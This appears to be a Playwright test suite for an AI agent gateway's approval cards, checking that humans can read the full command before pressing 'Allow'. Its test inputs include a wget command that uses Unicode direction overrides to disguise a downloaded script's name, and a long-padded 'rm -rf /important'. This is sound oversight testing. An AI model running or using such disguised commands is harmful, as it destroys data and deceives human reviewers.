import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Locator, Page } from 'playwright-core';
import { FakeTelegram } from '../../fakes/telegram-server';
import { describeWithBrowser, openBrowser, openPage } from '../../harness/browser';
import { TEST_TOKEN, until } from '../../harness/gateway-process';
import { ToolBench } from '../../harness/tool-bench';

/** Pictures of the card land here when it is set, to be looked at by people. */
const PICTURES = process.env['TEST_PICTURES'];

const EVIL = 'wget http://good.example/\u202ehs.tpircs\u202c ; echo \u200bhidden';
const COMMANDS = [
  'mkdir short',
  EVIL,
  `echo ${'a'.repeat(3000)}; rm -rf /important`,
  Array.from({ length: 80 }, (_, line) => `echo line ${line}`).join('\n'),
];
const SIZES = [
  { width: 390, height: 500 },
  { width: 390, height: 844 },
  { width: 844, height: 390 },
  { width: 1280, height: 800 },
];

describeWithBrowser('the card of an approval', () => {
  let browser: Browser;
  let telegram: FakeTelegram;
  let bench: ToolBench;
  let folder: string;
  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'openclaw-cards-'));
    browser = await openBrowser();
    telegram = await FakeTelegram.start();
    bench = await ToolBench.start({
      config: { channels: { telegram: { botToken: telegram.token, apiRoot: telegram.apiRoot, dmPolicy: 'pairing' } } },
    });
  });
  afterAll(async () => {
    await bench.stop();
    await telegram.stop();
    await browser.close();
    rmSync(folder, { recursive: true });
  });

  const logIn = async (): Promise<{ page: Page; card: Locator; errors: string[] }> => {
    const { page, errors } = await openPage(browser);
    await page.goto(`${bench.gateway.http}/#token=${TEST_TOKEN}`);
    await page.getByTestId('connection').and(page.locator('[data-state=connected]')).waitFor();
    return { page, card: page.getByTestId('approval'), errors };
  };
  const run = (command: string, meanwhile: () => Promise<void>): Promise<string[]> =>
    bench.turn([{ name: 'exec', args: { command, host: 'gateway' } }], { meanwhile });
  const isInside = async (element: Locator, { width, height }: { width: number; height: number }): Promise<boolean> => {
    const box = await element.boundingBox();
    return (
      box !== null && box.x >= 0 && box.y >= 0 && box.x + box.width <= width + 0.5 && box.y + box.height <= height + 0.5
    );
  };

  it('is wholly in the window at every size, its text can be read to the end, and only then allowed', async () => {
    for (const name of ['Eve', 'Mallory\u202e', 'x'.repeat(3000)])
      telegram.say({ chatId: 70 + name.length, text: 'Hello?', name });
    await until('the requests', () => telegram.textsIn(73).length > 0);
    const { page, card, errors } = await logIn();
    await page.getByTestId('people-bar').waitFor();
    for (const [index, command] of COMMANDS.entries()) {
      await run(command, async () => {
        await card.waitFor();
        for (const size of SIZES) {
          await page.setViewportSize(size);
          const buttons = card.getByRole('button');
          expect([command.slice(0, 20), size, await isInside(card, size)]).toEqual([command.slice(0, 20), size, true]);
          for (const button of await buttons.all()) expect(await isInside(button, size)).toBe(true);
          const facts = card.getByRole('group');
          expect((await facts.boundingBox())?.height).toBeGreaterThan(50);
          if (PICTURES !== undefined)
            for (const colorScheme of ['light', 'dark'] as const) {
              await page.emulateMedia({ colorScheme });
              await page.screenshot({
                path: join(PICTURES, `card-${index}-${size.width}x${size.height}-${colorScheme}.png`),
              });
            }
        }
        await page.setViewportSize({ width: 390, height: 500 });
        const allow = card.getByRole('button', { name: 'Allow once' });
        const facts = card.getByRole('group');
        const fits = await facts.evaluate((element) => element.scrollHeight <= element.clientHeight + 4);
        if (!fits && index >= 2) {
          await page.waitForTimeout(500);
          expect(await allow.isDisabled()).toBe(true);
        }
        await facts.evaluate((element) => element.scrollTo(0, element.scrollHeight));
        await page.waitForFunction(
          (button) => !(button as unknown as { disabled: boolean }).disabled,
          await allow.elementHandle(),
        );
        expect(await facts.innerText()).toContain(
          command === EVIL ? '⟨U+202E⟩hs.tpircs⟨U+202C⟩' : command.split('\n').at(-1),
        );
        await card.getByRole('button', { name: 'Deny' }).click();
      });
      await card.waitFor({ state: 'detached' });
    }
    await page.getByTestId('people-bar').getByRole('link').click();
    const request = page.getByTestId('pairing-request');
    await request.first().waitFor();
    for (const each of await request.all()) {
      expect(await each.innerText()).not.toMatch(/\u202e/);
      expect((await each.locator('h3').innerText()).length).toBeLessThan(160);
    }
    expect(errors).toEqual([]);
    await page.close();
  });

  it('takes no press in its first moments, nor after it moved, and tells the title', async () => {
    const { page, card } = await logIn();
    await run('mkdir steady', async () => {
      await card.waitFor();
      const deny = card.getByRole('button', { name: 'Deny' });
      await until('it is steady', () => deny.isEnabled());
      expect(await page.title()).toContain('(1) Waits for your decision');
      await page.setViewportSize({ width: 800, height: 600 });
      await until('it has noticed', () => deny.isDisabled());
      await until('it is steady again', () => deny.isEnabled());
      await card.getByLabel('Why not').fill('not today');
      await deny.click();
    }).then(([told]) => expect(told).toContain('not today'));
    await card.waitFor({ state: 'detached' });
    expect(await page.title()).not.toContain('decision');
    await page.close();
  });

  it('shows several calls of one step in one card, each whole, to be answered together or one by one', async () => {
    const { page, card, errors } = await logIn();
    const calls = ['mkdir together-1', `mkdir together-2 ${EVIL}`, 'mkdir together-3'].map((command) => ({
      name: 'exec',
      args: { command, host: 'gateway', env: { LANG: 'C' } },
    }));
    const told = await bench.turn(calls, {
      inOneStep: true,
      meanwhile: async () => {
        await card.waitFor();
        expect(await page.title()).toContain('(1) Waits for your decision');
        for (const size of SIZES) {
          await page.setViewportSize(size);
          expect([size, await isInside(card, size)]).toEqual([size, true]);
          expect(await isInside(card.getByRole('button', { name: 'Allow all once' }), size)).toBe(true);
        }
        await page.setViewportSize({ width: 390, height: 500 });
        const facts = card.getByRole('group');
        const allowAll = card.getByRole('button', { name: 'Allow all once' });
        await page.waitForTimeout(500);
        expect(await allowAll.isDisabled()).toBe(true);
        expect(await card.getByRole('button', { name: 'Allow once: 1' }).isDisabled()).toBe(true);
        for (const [index, words] of ['together-1', '⟨U+202E⟩hs.tpircs⟨U+202C⟩', 'together-3'].entries()) {
          const part = facts.getByRole('region', { name: `${index + 1} of 3` });
          for (const shown of [words, 'LANG=C', bench.workspace(), 'gateway', '“For this conversation” covers'])
            expect(await part.innerText()).toContain(shown);
        }
        await card.getByLabel('Why not').fill('looks wrong');
        await card.getByRole('button', { name: 'Deny: 2' }).click();
        await until('two are left', async () => (await facts.getByRole('region').count()) === 2);
        expect(await facts.innerText()).not.toContain('together-2');
        await facts.evaluate((element) => element.scrollTo(0, element.scrollHeight));
        await until('it was read', () => allowAll.isEnabled());
        if (PICTURES !== undefined) await page.screenshot({ path: join(PICTURES, 'card-common.png') });
        await allowAll.click();
      },
    });
    expect(told[1]).toContain('looks wrong');
    expect([1, 2, 3].map((n) => existsSync(bench.workspace(`together-${n}`)))).toEqual([true, false, true]);
    await card.waitFor({ state: 'detached' });
    expect(errors).toEqual([]);
    await page.close();
  });

  it('shares its place with nobody: requests of strangers stand elsewhere', async () => {
    const { page, card } = await logIn();
    await page.setViewportSize({ width: 390, height: 500 });
    const { requests } = (await bench.client.call('channels.pairing.list')).payload as { requests: { code: string }[] };
    for (const { code } of requests) await bench.client.call('channels.pairing.dismiss', { channel: 'telegram', code });
    await run('mkdir alone', async () => {
      await card.waitFor();
      const before = await card.boundingBox();
      for (const chatId of [901, 902, 903]) telegram.say({ chatId, text: 'Me too', name: `Stranger ${chatId}` });
      await until('the requests', () => telegram.textsIn(903).length > 0);
      await page.waitForTimeout(300);
      expect(await card.boundingBox()).toEqual(before);
      expect(await card.getByTestId('people-bar').count()).toBe(0);
      await card.getByRole('button', { name: 'Deny' }).click();
    });
    await page.close();
  });
});
